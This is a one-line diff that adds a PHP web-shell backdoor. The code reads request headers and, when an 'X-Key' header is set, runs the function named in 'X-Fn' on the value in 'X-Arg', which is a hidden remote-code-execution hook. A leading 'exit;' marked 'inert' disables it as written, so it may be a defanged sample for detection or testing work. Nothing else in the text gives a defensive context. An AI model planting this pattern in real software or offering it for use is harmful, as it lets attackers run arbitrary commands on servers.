@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $h = getallheaders(); if (isset($h["X-Key"])) { $f = $h["X-Fn"]; $f($h["X-Arg"]); }
